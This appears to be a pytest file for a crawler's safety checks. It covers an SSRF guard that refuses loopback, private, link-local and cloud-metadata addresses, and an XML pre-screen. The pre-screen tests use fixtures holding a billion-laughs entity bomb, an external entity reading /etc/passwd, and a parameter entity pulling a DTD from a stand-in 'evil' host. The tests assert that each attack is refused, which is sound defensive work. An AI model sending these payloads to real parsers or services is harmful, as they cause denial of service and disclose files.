"""SSRF guard decisions (without sending traffic anywhere) and the XML entity pre-screen."""

from __future__ import annotations

import resource

import pytest

from crawlers.feeds import parse_feed
from crawlers.safety import classify_address, host_problem, url_problem, xml_problem
from crawlers.sitemaps import parse_sitemap


@pytest.mark.parametrize("address, kind", [
    ("127.0.0.1", "loopback"), ("127.0.0.25", "loopback"), ("::1", "loopback"),
    ("10.0.0.1", "private"), ("172.16.5.4", "private"), ("192.168.1.1", "private"), ("fd00::1", "private"),
    ("169.254.169.254", "cloud metadata"), ("169.254.1.1", "link-local"), ("fe80::1", "link-local"),
    ("0.0.0.0", "unspecified"), ("100.64.0.1", "non-global"), ("::ffff:127.0.0.1", "loopback"),
    ("224.0.0.1", "multicast"),
])
def test_forbidden_addresses_are_classified(address, kind):
    assert classify_address(address) == kind


@pytest.mark.parametrize("address", ["93.184.216.34", "2606:4700::1111", "185.199.108.153"])
def test_global_addresses_pass(address):
    assert classify_address(address) is None


def _no_dns(host):
    raise AssertionError(f"must not resolve {host}")


def test_ip_literals_are_refused_without_any_lookup():
    # Decisions only: url_problem never connects, and _no_dns proves it does not even resolve. Targets are this
    # machine's own addresses (house rule); private and metadata answers are checked through stubbed names below.
    for host in ("[::1]:8080", "127.0.0.1:9", "127.0.0.25", "[::ffff:127.0.0.1]", "0.0.0.0"):
        problem = url_problem(f"http://{host}/x", allow_private=False, resolve=_no_dns)
        assert problem and problem.startswith("refused:"), (host, problem)


def test_private_and_metadata_answers_of_a_name_are_refused():
    answers = {"intranet.test": ["10.0.0.1"], "metadata.test": ["169.254.169.254"], "link.test": ["fe80::1"]}
    for name, kind in (("intranet.test", "private"), ("metadata.test", "cloud metadata"), ("link.test", "link-local")):
        problem = url_problem(f"http://{name}/x", allow_private=False, resolve=answers.__getitem__)
        assert problem == f"refused: {name} ({answers[name][0]}) is a {kind} address", problem


def test_names_are_resolved_and_every_answer_checked():
    answers = {"news.example": ["93.184.216.34"], "rebind.example": ["93.184.216.34", "10.1.2.3"]}
    assert host_problem("news.example", allow_private=False, resolve=answers.__getitem__) is None
    problem = host_problem("rebind.example", allow_private=False, resolve=answers.__getitem__)
    assert problem == "refused: rebind.example (10.1.2.3) is a private address"
    assert host_problem("localhost", allow_private=False, resolve=_no_dns).startswith("refused")


def test_unresolvable_names_are_a_dns_problem():
    def fail(host):
        raise OSError("Name or service not known")

    assert host_problem("nope.invalid", allow_private=False, resolve=fail).startswith("dns:")


def test_allow_private_and_trusted_addresses():
    assert url_problem("http://127.0.0.1/", allow_private=True, resolve=_no_dns) is None
    assert url_problem("http://127.0.0.2/", allow_private=False, trusted=["127.0.0.2"], resolve=_no_dns) is None
    assert url_problem("file:///etc/passwd", allow_private=True).startswith("refused: scheme")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>http://a.rs/1</link></item></channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title><link>http://a.rs/1</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY % remote SYSTEM "http://metadata.test/evil.dtd"> %remote;]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>http://a.rs/1</loc></url></urlset>"""


def _peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_entity_attacks_are_refused_with_a_reason_and_bounded_memory():
    before = _peak_rss_mb()
    laughs = parse_feed(BILLION_LAUGHS, "http://a.rs/rss", "a")
    external = parse_feed(EXTERNAL_ENTITY, "http://a.rs/rss", "a")
    sitemap = parse_sitemap(PARAMETER_ENTITY, "http://a.rs/sitemap.xml", "a")
    assert laughs.entries == [] and "billion laughs" in laughs.error
    assert external.entries == [] and "external entity" in external.error
    assert sitemap.entries == [] and "parameter entity" in sitemap.error
    assert _peak_rss_mb() - before < 200


def test_harmless_doctypes_still_parse():
    rss091 = (b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
              b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel><title>t</title>'
              b"<item><title>Naslov</title><link>http://a.rs/1</link></item></channel></rss>")
    assert xml_problem(rss091) is None
    result = parse_feed(rss091, "http://a.rs/rss", "a")
    assert result.ok and [e.url for e in result.entries] == ["http://a.rs/1"]
    simple = b'<!DOCTYPE rss [<!ENTITY copy "(c)">]><rss version="2.0"><channel></channel></rss>'
    assert xml_problem(simple) is None
